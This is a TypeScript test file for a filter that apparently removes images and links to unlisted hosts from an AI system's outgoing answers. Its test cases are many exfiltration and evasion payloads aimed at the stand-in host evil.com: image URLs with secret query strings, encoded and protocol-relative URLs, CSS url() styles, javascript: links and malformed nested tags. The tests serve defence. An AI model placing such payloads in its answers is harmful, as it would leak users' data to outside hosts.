import { describe, expect, it } from "vitest";

import { filterWhole } from "../../../src/answer/output/outgoing-text.ts";
import { FREE, allowLinks, openText, send, STRICT } from "./outgoing.ts";

const REMOVED: readonly (readonly [string, string, string])[] = [
  ["an image", 'a ![b c](https://evil.com/?q=1 "t") d', "a (image removed: b c) d"],
  ["an image in brackets", "![x](<https://evil.com/a b>)", "(image removed: x)"],
  ["an image without a description", "![](https://evil.com/a)", "(image removed)"],
  ["an image with parentheses", "![x](https://evil.com/(a)b) c", "(image removed: x) c"],
  ["an image with a bad title", "![x](https://evil.com a b) c", "(image removed: x) c"],
  ["an image over lines", "![a\nb](\nhttps://evil.com\n)", "(image removed: a b)"],
  [
    "an image in a link",
    "[![a](https://evil.com/i)](https://x.y)",
    "[(image removed: a)](https://x.y)",
  ],
  [
    "an image around an image",
    "![a ![b](https://docs.ok.com) c](https://evil.com)",
    "(image removed: a b https docs ok com c)",
  ],
  [
    "an image by reference",
    "![a][r]\n\n[r]: https://evil.com",
    "(image removed: a)\n\n[r]: https://evil.com",
  ],
  [
    "an image by its own name",
    "![r]\n\n[r]: https://evil.com",
    "(image removed: r)\n\n[r]: https://evil.com",
  ],
  [
    "an image by the number of a citation",
    "Great![1]\n\n[1]: https://evil.com/i",
    "Great![1]\n\n(link removed)",
  ],
  [
    "the same in another order",
    "[1]: https://evil.com/i\n\nGreat![1]",
    "[1]: https://evil.com/i\n\nGreat(image removed: 1)",
  ],
  ["an image behind a citation", "!【1】[y](https://evil.com)", "!【1】(image removed: y)"],
  ["an image that is not closed", "![x](https://evil.com/abc", "(image removed: x)"],
  ["an image with an open bracket", "![a [ b](https://evil.com)", "! [a [ b] (image removed)"],
  ["a URL without a scheme", "![x](//evil.com/a)", "(image removed: x)"],
  ["a URL with backslashes", "![x](https:\\\\evil.com)", "(image removed: x)"],
  ["a URL with entities", "![x](&#104;ttps&colon;//evil.com)", "(image removed: x)"],
  ["a URL with a user", "![x](https://docs.ok.com@evil.com)", "(image removed: x)"],
  ["a host that ends like a source", "![x](https://evil-docs.ok.com)", "(image removed: x)"],
  ["a host below that of a source", "![x](https://q.docs.ok.com)", "(image removed: x)"],
  ["a place on the site of the reader", "![x](/logout)", "(image removed: x)"],
  ["a data URL", "![x](data:image/svg+xml;base64,AAAA)", "(image removed: x)"],
  ["an HTML image", "<img src='https://evil.com' alt=\"A cat\">!", "(image removed: A cat)!"],
  ["an HTML image over lines", "<IMG\n  SRC = https://evil.com\n>", "(image removed)"],
  ["an HTML image with slashes", "<img/src=//evil.com/>", "(image removed)"],
  ["a source set", '<img src=https://docs.ok.com srcset="https://evil.com 2x">', "(image removed)"],
  ["a style", "<p style=\"background:url('https://evil.com')\">a</p>", "(image removed)a</p>"],
  ["an encoded style", '<p style="background:url(&#47;&#47;evil.com)">a', "(image removed)a"],
  ["a frame", "<iframe srcdoc='x'></iframe>", "(image removed)</iframe>"],
  ["a video", "<video poster=https://evil.com></video>", "(image removed)</video>"],
  ["an HTML image that is not closed", "a <img src=https://evil.com/x", "a (image removed)"],
  ["a tag with a blank line", "<img\n\nsrc=https://evil.com>", "< img\n\nsrc=https://evil.com>"],
  [
    "an HTML image around a tag",
    "<img <iframe> src=//evil.com>",
    "< img (image removed) src=//evil.com>",
  ],
  [
    "an HTML image around an image",
    "<img ![a](<x>) src=//evil.com>",
    "< img (image removed: a) src=//evil.com>",
  ],
  [
    "an HTML image with an image in its attributes",
    '<img title=![a](x" alt="y) src=&#47;&#47;evil.com ">',
    '< img title=(image removed: a) src=&#47;&#47;evil.com ">',
  ],
  [
    "a style sheet around a tag",
    "<link <a rel=stylesheet href=//evil.com>",
    "(image removed)<a rel=stylesheet href=//evil.com>",
  ],
  ["a mark after a label", "![1]![a](https://evil.com)", "![1] (image removed: a)"],
  [
    "an image whose bracket a removed tag closes",
    "![<iframe [>]\n\n[(image removed)]: https://evil.com",
    "! [(image removed)]\n\n[(image removed)]: https://evil.com",
  ],
  [
    "a definition that a removed image would complete",
    "![1]\n\n[1]:<//evil.com/![a](<b>)>",
    "![1]\n\n(link removed)//evil.com/(image removed: a)>",
  ],
  [
    "an image within an image",
    "<im<img src=x>g src=https://evil.com>",
    "< im(image removed)g src=https://evil.com>",
  ],
];

const KEPT = [
  "![ok](https://docs.ok.com/x.png) and ![ok](https://BÜCHER.example/a)",
  '<img src="https://docs.ok.com/x.png" alt="x">',
  "[a](https://evil.com), <https://evil.com> and https://evil.com",
  "Great![1] Really![1][2]. Stop! [a](b)",
  "a < b, a <b and c> d, Map<String, List<Integer>> x, x <- y",
  "if (!list[0] && a[1]) f(x); <br> <b>bold</b> </p>",
  "![1](https://docs.ok.com)",
];

describe("the images of an answer", () => {
  it.each(REMOVED)("lose %s of a host that no source names", (_name, text, left) => {
    expect(send(text, FREE, [text.length])).toBe(left);
    expect(send(text, FREE, [1])).toBe(left);
  });

  it.each(KEPT)("stay in “%s”", (text) => {
    expect(send(text, FREE, [3])).toBe(text);
  });

  it("stay when their host is listed, and none stays when none is allowed", () => {
    const listed = { images: { allow: "none", hosts: ["cdn.x.com", "*.y.com"] } };
    const text =
      "![a](https://cdn.x.com) ![b](https://a.y.com) ![c](https://docs.ok.com) ![d](https://y.com)";

    expect(send(text, listed, [5])).toBe(
      "![a](https://cdn.x.com) ![b](https://a.y.com) (image removed: c) (image removed: d)",
    );
  });

  it("stay as they are when any is allowed", () => {
    const text = "![x](https://evil.com) <script src=x>";

    expect(send(text, { images: { allow: "any" } }, [4])).toBe(text);
  });

  it("are never sent in part, however long their URL is", () => {
    const url = `https://evil.com/?secret=${"x".repeat(9_000)}`;
    for (const text of [`a ![b](${url}) c`, `a <img src="${url}"> c`, `a <img src="${url}`]) {
      for (const sizes of [[1_000], [1], [text.length]]) {
        expect(send(text, FREE, sizes).replaceAll(/\(image removed[^)]*\)|[ ac]/g, "")).toBe("");
      }
    }
  });

  it("are held back only until they are decided", () => {
    const outgoing = openText(FREE);

    expect(outgoing.push("See [the page](https://evil.com) ! ")).toBe(
      "See [the page](https://evil.com) ! ",
    );
    expect(outgoing.push("and ![a](https://docs.ok")).toBe("and ");
    expect(outgoing.push(".com/b.png) now <b")).toBe("![a](https://docs.ok.com/b.png) now ");
    expect(outgoing.push(">")).toBe("<b>");
  });
});

describe("the links of an answer", () => {
  const removed: readonly (readonly [string, string])[] = [
    ["[a b](https://evil.com) c", "a b (link removed) c"],
    ["[a](javascript:alert(1))", "a (link removed)"],
    ["<https://evil.com/a> b", "(link removed) b"],
    ["see https://evil.com/a. Or www.evil.com!", "see (link removed). Or (link removed)!"],
    ["[a][r]\n\n[r]: <https://evil.com>", "[a][r]\n\n(link removed)"],
    ["<a href='https://evil.com' class=x>b</a>", "<a>b</a>"],
    ["https://docs.ok.com[.evil.com](//x.y)", "https://docs.ok.com .evil.com (link removed)"],
    ["[x]([//evil.com](//evil.com))", "x (link removed)"],
    ["[1]:[//evil.com](//evil.com)", "(link removed)"],
    ["[[1]:<//evil.com/](//x.y)>", "(link removed)//evil.com/ (link removed)>"],
    ["![a](https://docs.ok.com https://evil.com", "![a](https://docs.ok.com (link removed)"],
    [
      "[![a](https://docs.ok.com/i)](https://evil.com)",
      "![a](https://docs.ok.com/i) (link removed)",
    ],
  ];
  it.each(removed)("are removed from “%s” when only those of sources are allowed", (text, left) => {
    expect(send(text, STRICT, [text.length])).toBe(left);
    expect(send(text, STRICT, [1])).toBe(left);
  });

  it.each([
    "[a](https://docs.ok.com/b)",
    "[a](/b#c)",
    "https://docs.ok.com/a?b=c.",
    "hello what? ftp h",
  ])("stay in “%s”", (text) => {
    expect(send(text, STRICT, [2])).toBe(text);
  });
});

describe("a JSON text", () => {
  const cases: readonly (readonly [string, string])[] = [
    [String.raw`{"a":"\u0021[b](https:\/\/evil.com)"}`, `{"a":"(image removed: b)"}`],
    [String.raw`{"a":"<img src=\"https://evil.com\">","b":[1]}`, `{"a":"(image removed)","b":[1]}`],
    [
      String.raw`{"a":"\\u0021","b":"\n\"\ud83d\ude00"}`,
      String.raw`{"a":"\\u0021","b":"\n\"\ud83d\ude00"}`,
    ],
    [
      String.raw`{"a":"\ud83d","b":"\ude00\ud83dx"}`,
      String.raw`{"a":"\ufffd","b":"\ufffd\ufffdx"}`,
    ],
  ];
  it.each(cases)("is decoded as far as its reader decodes it: %s", (text, left) => {
    expect(send(text, FREE, [text.length], "json")).toBe(left);
    expect(send(text, FREE, [1], "json")).toBe(left);
  });
});

describe("a whole text", () => {
  it("tells where each character has gone", () => {
    const text = "One. ![a](https://evil.com) Two.";
    const { text: left, move } = filterWhole(allowLinks(), text);

    expect(left).toBe("One. (image removed: a) Two.");
    expect([
      move(0),
      move(text.indexOf("!")),
      move(text.indexOf("Two")),
      move(text.length),
    ]).toEqual([0, left.indexOf("("), left.indexOf("Two"), left.length]);
  });
});
